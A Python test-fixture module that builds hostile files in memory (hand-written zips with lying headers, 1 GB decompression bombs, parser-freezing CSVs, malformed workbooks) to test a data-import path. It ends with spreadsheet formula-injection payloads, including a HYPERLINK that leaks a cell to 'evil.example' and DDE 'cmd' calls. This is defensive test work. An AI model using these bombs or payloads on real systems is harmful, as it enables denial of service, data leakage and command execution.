"""Hostile and broken files for the import path, built in memory (nothing large is committed).

Each file is registered with `@hostile(...)` under the name used in `manifest.csv`; the manifest
says what a careful user would want from it (`imported` or `refused`, in which words, at which
row and column). `build(name)` makes the bytes; the big ones (bombs) are made lazily, once per
process, and their deflate streams are built from one compressed block repeated, so that a
1 GB inflating member costs a few milliseconds and a few megabytes here.

Zips are written by hand (`zip_bytes`), so that a member can lie: a wrong size, a wrong CRC, an
encryption flag, an unsupported compression method, a local name that differs from the central
directory, or the same name twice.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from openpyxl import Workbook

from core.settings import BUNDLED_DATA_DIR

POSITIONS_BYTES = (BUNDLED_DATA_DIR / "positions.csv").read_bytes()
POSITIONS_TEXT = POSITIONS_BYTES.decode("utf-8")
MB = 1024 * 1024
GB = 1024 * MB


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus and how to import it."""

    name: str
    file_name: str
    cls: str
    build: Callable[[], bytes]
    heavy: bool = False
    """Big or slow to refuse (bombs, freezes): marked `heavy` in the test."""
    as_of: dt.date | None = None
    add_unknown: bool = False
    merge: bool = False
    keep: tuple[str, ...] = ()
    """Summaries the imported dataset must hold exactly as written in the file."""
    same_as_base: bool = False
    """The file is the bundled positions in another form: the import must equal the base."""
    export_safe: bool = False
    """The imported summaries must export to CSV with no line starting a formula."""


FILES: dict[str, Hostile] = {}


def hostile(name: str, file_name: str, cls: str, **kw) -> Callable:
    """Register a builder of one file under `name` (its bytes are made once, when asked)."""

    def register(builder: Callable[[], bytes]) -> Callable[[], bytes]:
        assert name not in FILES, name
        FILES[name] = Hostile(name, file_name, cls, cache(builder), **kw)
        return builder

    return register


def build(name: str) -> bytes:
    """The bytes of the corpus file `name`."""
    return FILES[name].build()


def import_options(name: str) -> dict:
    """Keyword arguments of the import for the corpus file `name`."""
    f = FILES[name]
    return {"as_of": f.as_of, "add_unknown": f.add_unknown, "merge": f.merge}


# --- text helpers -------------------------------------------------------------------------------


def positions_rows() -> list[list[str]]:
    """The bundled positions.csv as rows (row 1 the header), a fresh copy."""
    return list(csv.reader(io.StringIO(POSITIONS_TEXT)))


COLUMNS = positions_rows()[0]


def set_cell(rows: list[list[str]], row: int, column: str, value: str) -> list[list[str]]:
    """Change the field of spreadsheet row `row` (the header is row 1) in `column`."""
    rows[row - 1][COLUMNS.index(column)] = value
    return rows


def csv_text(rows: list[list[str]], newline: str = "\n", quoting: int = csv.QUOTE_MINIMAL) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator=newline, quoting=quoting).writerows(rows)
    return out.getvalue()


def positions_with(row: int, column: str, value: str) -> bytes:
    return csv_text(set_cell(positions_rows(), row, column, value)).encode()


def positions_with_summaries(summaries: dict[int, str]) -> bytes:
    rows = positions_rows()
    for row, text in summaries.items():
        set_cell(rows, row, "summary", text)
    return csv_text(rows).encode()


# --- zip helpers --------------------------------------------------------------------------------


@dataclass
class Member:
    """One zip member as it will be written: payload already compressed."""

    name: str
    payload: bytes
    crc: int
    size: int
    method: int = 8
    flags: int = 0
    declared_size: int | None = None  # the uncompressed size the headers claim
    declared_crc: int | None = None
    local_name: str | None = None  # the name in the local header, if it differs


def deflate(data: bytes, final: bool = True) -> bytes:
    """A raw deflate stream of `data` (not final: ends on a byte boundary with no back-references
    past it, so that such segments may be concatenated)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


def member(name: str, content: bytes, method: int = 8, **kw) -> Member:
    payload = deflate(content) if method == 8 else content
    return Member(name, payload, zlib.crc32(content), len(content), method, **kw)


def repeated_member(name: str, head: bytes, chunk: bytes, count: int, tail: bytes) -> Member:
    """A member that inflates to head + chunk * count + tail, compressed in a few KB per MB."""
    block = deflate(chunk, final=False)
    payload = deflate(head, final=False) + block * count + deflate(tail)
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return Member(name, payload, crc, len(head) + len(chunk) * count + len(tail))


DOS_DATE = (2022 - 1980) << 9 | 3 << 5 | 1


def zip_bytes(members: list[Member]) -> bytes:
    """A zip archive of `members`, written field by field (lies included)."""
    out = bytearray()
    central = bytearray()
    for m in members:
        offset = len(out)
        name = m.name.encode()
        local_name = (m.local_name or m.name).encode()
        size = m.size if m.declared_size is None else m.declared_size
        crc = m.crc if m.declared_crc is None else m.declared_crc
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, m.flags, m.method, 0, DOS_DATE, crc,
            len(m.payload), size, len(local_name), 0,
        )  # fmt: skip
        out += local_name + m.payload
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, m.flags, m.method, 0, DOS_DATE, crc,
            len(m.payload), size, len(name), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += name
    eocd = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0
    )
    return bytes(out + central + eocd)


def package_members(**replace: bytes) -> list[Member]:
    """The bundled package's CSV tables as members, some replaced (name without .csv)."""
    files = {p.stem: p.read_bytes() for p in sorted(BUNDLED_DATA_DIR.glob("*.csv"))}
    files.update(replace)
    return [member(f"{stem}.csv", content) for stem, content in files.items()]


def without_column(content: bytes, column: str) -> bytes:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    index = rows[0].index(column)
    return csv_text([r[:index] + r[index + 1 :] for r in rows]).encode()


# --- xlsx helpers -------------------------------------------------------------------------------


def workbook_bytes(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_rows(rows: list[list], title: str = "Sheet") -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    return workbook_bytes(book)


def xlsx_members(raw: bytes) -> list[Member]:
    """The members of a workbook openpyxl wrote, re-compressed by us (so parts can be swapped)."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return [member(i.filename, archive.read(i)) for i in archive.infolist()]


def swap(members: list[Member], replacement: Member) -> list[Member]:
    return [replacement if m.name == replacement.name else m for m in members]


WIDE_HEADER = "country,UNGA ES-11/1,Troops for Russia,as_of\n"

# ================================================================================================
# freeze
# ================================================================================================


@hostile("freeze_quoted_line_300k", "positions.csv", "freeze")
def _quoted_line():  # one summary of 300 KB, quoted (it holds commas)
    return positions_with(5, "summary", "Long, " + "quoted text, " * 25_000)


@hostile("freeze_quoted_header_300k", "wide.csv", "freeze")
def _quoted_header():
    return ('country,"' + "a,b;c\t" * 50_000 + '"\nKAZ,yes\n').encode()


@hostile("freeze_10k_columns", "wide.csv", "freeze", heavy=True, as_of=dt.date(2022, 3, 2))
def _ten_k():  # about 108 KB: 10,000 issues nobody has heard of, one row of scores
    header = "country," + ",".join(f"iss{i:05d}" for i in range(10_000))
    return (header + "\nKAZ," + ",".join("1" for _ in range(10_000)) + "\n").encode()


@hostile(
    "freeze_10k_columns_added", "wide.csv", "freeze",
    heavy=True, as_of=dt.date(2022, 3, 2), add_unknown=True,
)  # fmt: skip
def _ten_k_added():
    return build("freeze_10k_columns")


@hostile("freeze_200k_tiny_columns", "wide.csv", "freeze", heavy=True, as_of=dt.date(2022, 3, 2))
def _two_hundred_k():
    names = [f"{i:x}" for i in range(200_000)]
    return ("country," + ",".join(names) + "\nKAZ," + ",".join("1" for _ in names) + "\n").encode()


@hostile("freeze_ragged_short_rows", "wide.csv", "freeze", heavy=True, as_of=dt.date(2022, 3, 2))
def _ragged_short():  # 5,000 columns, 2,000 rows each cut at a different length: ~10 M cells
    header = "country," + ",".join(f"c{i}" for i in range(5_000))
    rows = ["KAZ" + ",1" * (i * 7 % 5_000) for i in range(2_000)]
    return (header + "\n" + "\n".join(rows) + "\n").encode()


@hostile("freeze_ragged_trailing_commas", "positions.csv", "freeze", heavy=True, same_as_base=True)
def _ragged_trailing():  # every row ends with thousands of empty fields
    lines = POSITIONS_TEXT.splitlines()
    body = [line + "," * (2_000 + (i * 37) % 20_000) for i, line in enumerate(lines)]
    return ("\n".join(body) + "\n").encode()


# ================================================================================================
# memory bombs
# ================================================================================================

XML_ROW = b'<row><c t="inlineStr"><is><t>KAZ</t></is></c><c><v>1</v></c></row>'
XML_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns='
    b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
XML_TAIL = b"</sheetData></worksheet>"


@hostile("bomb_xlsx_sheet_1gb", "sheet.xlsx", "memory bomb", heavy=True)
def _xlsx_bomb():
    chunk = XML_ROW * (MB // len(XML_ROW))
    sheet = repeated_member("xl/worksheets/sheet1.xml", XML_HEAD, chunk, 1_000, XML_TAIL)
    return zip_bytes(swap(xlsx_members(xlsx_rows([["country", "x"]])), sheet))


@hostile("bomb_xlsx_shared_strings_1gb", "sheet.xlsx", "memory bomb", heavy=True)
def _strings_bomb():
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns='
        b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>country</t></si>'
        b"<si><t>troop_request</t></si>"
    )
    item = b"<si><t>refused refused refused</t></si>"
    strings = repeated_member(
        "xl/sharedStrings.xml", head, item * (MB // len(item)), 1_000, b"</sst>"
    )
    members = xlsx_members(xlsx_rows([["country", "troop_request"]]))
    types = next(m for m in members if m.name == "[Content_Types].xml")
    declared = zlib.decompress(types.payload, -15).replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    return zip_bytes([*swap(members, member(types.name, declared)), strings])


def _big_positions(count: int) -> Member:
    """positions.csv: the bundled rows, then `count` MB of the same row over and over."""
    lines = POSITIONS_TEXT.splitlines(keepends=True)
    chunk = "".join(lines[1:3]).encode()
    return repeated_member("positions.csv", POSITIONS_BYTES, chunk * (MB // len(chunk)), count, b"")


@hostile("bomb_zip_size_lies", "pkg.zip", "memory bomb", heavy=True)
def _size_lies():  # inflates to 1 GB; both headers say 2,000 bytes (the CRC is the full one's)
    big = _big_positions(1_000)
    big.declared_size = 2_000
    return zip_bytes([m for m in package_members() if m.name != "positions.csv"] + [big])


@hostile("bomb_zip_size_lies_crc_ok", "pkg.zip", "memory bomb", heavy=True)
def _size_lies_crc():
    # headers give the size and CRC of the bundled positions.csv; the stream goes on for 1 GB
    big = _big_positions(1_000)
    big.declared_size = len(POSITIONS_BYTES)
    big.declared_crc = zlib.crc32(POSITIONS_BYTES)
    return zip_bytes([m for m in package_members() if m.name != "positions.csv"] + [big])


@hostile("bomb_zip_60_members_19mb", "pkg.zip", "memory bomb", heavy=True)
def _sixty():
    one = _big_positions(19)
    members = []
    for i in range(60):
        m = Member(f"part{i:02d}/positions.csv", one.payload, one.crc, one.size)
        members.append(m)
    return zip_bytes(members)


@hostile("bomb_csv_10m_rows", "wide.csv", "memory bomb", heavy=True)
def _ten_million():  # 20,000,000 bytes, just under 20 MB: a header and 10 million one-char rows
    return b"x\n" + b"1\n" * 9_999_999


@hostile("bomb_nested_zip", "pkg.zip", "memory bomb", heavy=True)
def _nested():
    inner = zip_bytes([_big_positions(1_000)])
    members = [m for m in package_members() if m.name != "positions.csv"]
    return zip_bytes([*members, member("positions.zip", inner, method=0)])


@hostile("bomb_nested_zip_named_csv", "pkg.zip", "memory bomb", heavy=True)
def _nested_as_csv():
    inner = zip_bytes([_big_positions(1_000)])
    members = [m for m in package_members() if m.name != "positions.csv"]
    return zip_bytes([*members, member("positions.csv", inner, method=0)])


# ================================================================================================
# malformed
# ================================================================================================


@hostile("malformed_case_duplicate_header_long", "positions.csv", "malformed")
def _case_dup_long():
    rows = [[*r, r[0]] for r in positions_rows()]
    rows[0][-1] = "Country"
    return csv_text(rows).encode()


@hostile("malformed_case_duplicate_header_wide", "wide.csv", "malformed")
def _case_dup_wide():
    return b"country,Country,troop_request,as_of\nKAZ,KGZ,refused,2022-03-01\n"


@hostile("malformed_zip_positions_without_country", "pkg.zip", "malformed")
def _no_country():
    return zip_bytes(package_members(positions=without_column(POSITIONS_BYTES, "country")))


@hostile("malformed_zip_sources_without_date", "pkg.zip", "malformed")
def _no_date():
    content = (BUNDLED_DATA_DIR / "observation_sources.csv").read_bytes()
    return zip_bytes(package_members(observation_sources=without_column(content, "date")))


def _patched_positions(**changes) -> bytes:
    members = package_members()
    for m in members:
        if m.name == "positions.csv":
            for key, value in changes.items():
                setattr(m, key, value)
    return zip_bytes(members)


@hostile("malformed_zip_encrypted_member", "pkg.zip", "malformed")
def _encrypted():  # traditional PKWARE encryption flag (bit 0); the payload is not encrypted
    return _patched_positions(flags=0x1)


@hostile("malformed_zip_bad_crc", "pkg.zip", "malformed")
def _bad_crc():
    return _patched_positions(declared_crc=0xDEADBEEF)


@hostile("malformed_zip_ppmd_method", "pkg.zip", "malformed")
def _ppmd():  # method 98 (PPMd): zipfile raises NotImplementedError
    return _patched_positions(method=98)


@hostile("malformed_zip_local_name_differs", "pkg.zip", "malformed")
def _name_differs():
    return _patched_positions(local_name="positiony.csv")


@hostile("malformed_zip_same_name_twice", "pkg.zip", "malformed")
def _same_twice():
    members = package_members()
    return zip_bytes([*members, member("positions.csv", POSITIONS_BYTES)])


@hostile("malformed_zip_name_and_subfolder", "pkg.zip", "malformed")
def _sub():
    return zip_bytes([*package_members(), member("sub/positions.csv", POSITIONS_BYTES)])


# ================================================================================================
# lost after import: text that must come back exactly
# ================================================================================================

NAN_TEXTS = {2: "nan", 3: "NaN", 4: "-nan"}
NAT_TEXTS = {2: "NaT", 3: "nat", 4: "None"}
NA_TEXTS = {2: "NA", 3: "N/A", 4: "#N/A", 5: "null", 6: "NULL", 7: "<NA>", 8: "n/a"}


@hostile("lost_text_nan", "positions.csv", "lost after import", keep=tuple(NAN_TEXTS.values()))
def _nan():
    return positions_with_summaries(NAN_TEXTS)


@hostile("lost_text_nat", "positions.csv", "lost after import", keep=tuple(NAT_TEXTS.values()))
def _nat():
    return positions_with_summaries(NAT_TEXTS)


@hostile("lost_text_na", "positions.csv", "lost after import", keep=tuple(NA_TEXTS.values()))
def _na():
    return positions_with_summaries(NA_TEXTS)


@hostile("lost_text_nan_xlsx", "positions.xlsx", "lost after import", keep=("nan", "NA", "NaT"))
def _nan_xlsx():
    rows = positions_rows()
    for row, text in {2: "nan", 3: "NA", 4: "NaT"}.items():
        set_cell(rows, row, "summary", text)
    return xlsx_rows(rows)


LONE_CR = "First line of the summary\rsecond line after a lone carriage return"


@hostile("lost_lone_cr_in_summary", "positions.csv", "lost after import", keep=(LONE_CR,))
def _lone_cr():  # quoted: with a "\n" line end, csv.writer leaves a lone CR unquoted
    rows = set_cell(positions_rows(), 6, "summary", LONE_CR)
    return csv_text(rows, quoting=csv.QUOTE_ALL).encode()


CONTROLS = "Bell \x07, escape \x1b[31m, backspace \x08, form feed \x0c and delete \x7f"


@hostile("lost_control_chars", "positions.csv", "lost after import", keep=(CONTROLS,))
def _controls():
    return positions_with_summaries({300: CONTROLS})


NUL_TEXT = "Before the NUL\x00after the NUL"


@hostile("lost_nul_in_summary", "positions.csv", "lost after import", keep=(NUL_TEXT,))
def _nul():  # far enough down that a check of the first 4 KB misses it
    return positions_with_summaries({300: NUL_TEXT})


EMOJI = "Flags 🇰🇿🇺🇦, family 👩‍👩‍👧, skin tone ✊🏽, and a 𝔪𝔞𝔱𝔥 letter"


@hostile("lost_emoji", "positions.csv", "lost after import", keep=(EMOJI,))
def _emoji():
    return positions_with_summaries({10: EMOJI})


# ================================================================================================
# page breaking: dates the pages cannot draw
# ================================================================================================


@hostile("page_date_0022", "positions.csv", "page breaking")
def _d22():
    return positions_with(7, "date", "0022-03-01")


@hostile("page_date_0001", "positions.csv", "page breaking")
def _d1():
    return positions_with(7, "date", "0001-01-01")


@hostile("page_date_9999", "positions.csv", "page breaking")
def _d9999():
    return positions_with(7, "date", "9999-12-31")


@hostile("page_wide_date_far_away", "wide.csv", "page breaking")
def _wide_far():
    rows = "Kazakhstan,abstain,refused,2022-03-02\nKyrgyzstan,abstain,,2999-03-02\n"
    return (WIDE_HEADER + rows).encode()


@hostile("page_wide_as_of_year_1", "wide.csv", "page breaking", as_of=dt.date(1, 1, 1))
def _wide_year_one():
    return b"country,UNGA ES-11/1\nKazakhstan,abstain\n"


@hostile("page_zip_event_9999", "pkg.zip", "page breaking")
def _event_9999():
    events = (BUNDLED_DATA_DIR / "events.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(events)))
    rows[3][rows[0].index("date")] = "9999-12-31"
    return zip_bytes(package_members(events=csv_text(rows).encode()))


# ================================================================================================
# silently wrong
# ================================================================================================

CAFE = "Interview at the Café Müller: the minister's “no comment”, reported by Zoë Brontë"
EURO = "Aid worth 5 € million – announced in Brüssel"


def cp1252_positions(summaries: dict[int, str]) -> bytes:
    """positions.csv in Windows-1252: the rows it can encode (no Cyrillic), some summaries set."""

    def fits(row: list[str]) -> bool:
        try:
            ",".join(row).encode("cp1252")
        except UnicodeEncodeError:
            return False
        return True

    rows = [r for r in positions_rows() if fits(r)]
    for row, text in summaries.items():
        set_cell(rows, row, "summary", text)
    return csv_text(rows).encode("cp1252")


@hostile("silent_cp1252_accents", "positions.csv", "silently wrong", keep=(CAFE,))
def _cp1252():
    return cp1252_positions({2: CAFE, 3: "Grüße aus Zürich"})


@hostile("silent_cp1252_euro", "positions.csv", "silently wrong", keep=(EURO,))
def _cp1252_euro():
    return cp1252_positions({2: EURO})


@hostile("silent_unclosed_quote", "positions.csv", "silently wrong")
def _unclosed():
    # the locator of row 3 opens a quote that never closes: row 4 (short) slips into it
    rows = positions_rows()[:4]
    rows[3] = ["KGZ", "unga_es11_1", "2022-03-02", "day", "abstain", "high", "s", "S1", "x"]
    text = csv_text(rows[:3]) + "{}\n".format(",".join(rows[3]))
    lines = text.splitlines()
    lines[2] = lines[2].rsplit(",", 1)[0] + ',"S1 ¶2'
    return ("\n".join(lines) + "\n").encode()


def _two_sheets(state: str) -> bytes:
    book = Workbook()
    stale = book.active
    stale.title = "old"
    for row in positions_rows()[:5]:
        stale.append(row)
    stale.sheet_state = state
    current = book.create_sheet("positions")
    for row in positions_rows():
        current.append(row)
    return workbook_bytes(book)


@hostile("silent_xlsx_hidden_first_sheet", "positions.xlsx", "silently wrong")
def _hidden():
    return _two_sheets("hidden")


@hostile("silent_xlsx_very_hidden_first_sheet", "positions.xlsx", "silently wrong")
def _very_hidden():
    return _two_sheets("veryHidden")


@hostile("silent_xlsx_formula_without_value", "wide.xlsx", "silently wrong")
def _formula():  # openpyxl writes formulas without cached values, as some generators do
    return xlsx_rows(
        [
            ["country", "troop_request", "as_of"],
            ["KAZ", "refused", "2022-03-01"],
            ["KGZ", "=B2", "2022-03-01"],
        ]
    )


@hostile("silent_zip_member_twice_different", "pkg.zip", "silently wrong")
def _twice_different():
    countries = (BUNDLED_DATA_DIR / "countries.csv").read_bytes()
    changed = countries.replace(b"Kazakhstan", b"Kazakhstan (old copy)")
    return zip_bytes([member("countries.csv", changed), *package_members()])


# ================================================================================================
# misleading reports: the problem must point at the right place
# ================================================================================================


@hostile("report_blank_lines_before_bad_row", "positions.csv", "misleading reports")
def _blank_lines():
    lines = positions_with(8, "date", "2022-02-30").decode().splitlines()
    lines[4:4] = ["", ",,,,,,,,", ""]  # three blank lines after line 4: the bad row is now 11
    return ("\n".join(lines) + "\n").encode()


@hostile("report_merge_bad_row", "new.csv", "misleading reports", merge=True)
def _merge_bad():
    return (
        ",".join(COLUMNS) + "\n"
        "KAZ,unga_es11_1,2026-01-05,day,abstain,high,ok,S1,x\n"
        "KGZ,unga_es11_1,2026-13-05,day,abstain,high,bad date,S1,x\n"
    ).encode()


@hostile("report_wide_rule_breaking_cell", "wide.csv", "misleading reports",
         as_of=dt.date(2022, 3, 2))  # fmt: skip
def _wide_rule():  # Troops for Russia does not apply to Uzbekistan: a cross-table rule
    rows = "Kazakhstan,abstain,refused\nUzbekistan,abstain,refused\n"
    return (WIDE_HEADER.replace(",as_of", "") + rows).encode()


@hostile("report_wide_blank_line_before_bad_cell", "wide.csv", "misleading reports",
         as_of=dt.date(2022, 3, 2))  # fmt: skip
def _wide_blank():
    return b"country,troop_request\n\nKAZ,refused\n\nKGZ,maybe\n"


@hostile("report_xlsx_blank_rows_before_bad_row", "positions.xlsx", "misleading reports")
def _xlsx_blank():
    rows: list[list] = positions_rows()[:8]
    set_cell(rows, 7, "date", "2022-02-30")
    rows[3:3] = [[], []]  # the bad row is now row 9 of the sheet
    return xlsx_rows(rows)


@hostile("report_cr_only_line_endings", "positions.csv", "misleading reports", same_as_base=True)
def _cr_only():
    return csv_text(positions_rows(), newline="\r").encode()


@hostile("report_mixed_line_endings", "positions.csv", "misleading reports", same_as_base=True)
def _mixed():
    lines = csv_text(positions_rows()).splitlines()
    endings = ["\r\n", "\n", "\r"]
    return "".join(line + endings[i % 3] for i, line in enumerate(lines)).encode()


@hostile("report_utf16_le_bom", "positions.csv", "misleading reports", same_as_base=True)
def _u16le():
    return b"\xff\xfe" + POSITIONS_TEXT.encode("utf-16-le")


@hostile("report_utf16_be_bom", "positions.csv", "misleading reports", same_as_base=True)
def _u16be():
    return b"\xfe\xff" + POSITIONS_TEXT.encode("utf-16-be")


@hostile("report_utf16_le_no_bom", "positions.csv", "misleading reports", same_as_base=True)
def _u16_nobom():
    return POSITIONS_TEXT.encode("utf-16-le")


@hostile("report_utf32_bom", "positions.csv", "misleading reports", same_as_base=True)
def _u32():
    return POSITIONS_TEXT.encode("utf-32")  # with a byte-order mark


@hostile("report_zero_width_space_in_country", "positions.csv", "misleading reports")
def _zwsp():
    return positions_with(6, "country", "KAZ\u200b")


@hostile("report_bom_inside_header", "positions.csv", "misleading reports")
def _feff():
    return POSITIONS_TEXT.replace(",date,", ",\ufeffdate,", 1).encode()


@hostile("report_xlsx_excel_date_cells", "positions.xlsx", "misleading reports", same_as_base=True)
def _excel_dates():
    rows: list[list] = positions_rows()
    at = COLUMNS.index("date")
    for row in rows[1:]:
        row[at] = dt.datetime.strptime(row[at], "%Y-%m-%d")
    return xlsx_rows(rows)


LONG_LABEL = "Statement on the " + "very " * 70 + "long question"


@hostile("report_wide_label_too_long", "wide.csv", "misleading reports",
         as_of=dt.date(2022, 3, 2), add_unknown=True)  # fmt: skip
def _long_label():
    return f"country,{LONG_LABEL}\nKAZ,1\n".encode()


@hostile("report_wide_labels_same_start", "wide.csv", "misleading reports",
         as_of=dt.date(2022, 3, 2), add_unknown=True)  # fmt: skip
def _labels_collide():  # two short labels, one id if made naively ("troops_2022")
    return b"country,Troops: 2022,Troops 2022\nKAZ,1,-1\n"


# ================================================================================================
# exports: what comes back out must not run in a spreadsheet
# ================================================================================================

CR_FORMULA = 'x\r=HYPERLINK("https://evil.example/?leak="&A1,"Open the source")'
LF_FORMULA = "x\n+cmd|' /C calc'!A0"
CRLF_FORMULA = "Notes:\r\n@SUM(1+9)*cmd|' /C calc'!A0"


@hostile("export_formula_after_cr", "positions.csv", "exports", keep=(CR_FORMULA,),
         export_safe=True)  # fmt: skip
def _cr_formula():
    return positions_with_summaries({4: CR_FORMULA})


@hostile("export_formula_after_lf", "positions.csv", "exports", keep=(LF_FORMULA,),
         export_safe=True)  # fmt: skip
def _lf_formula():
    return positions_with_summaries({4: LF_FORMULA})


@hostile("export_formula_after_crlf", "positions.csv", "exports", keep=(CRLF_FORMULA,),
         export_safe=True)  # fmt: skip
def _crlf_formula():
    return positions_with_summaries({4: CRLF_FORMULA})
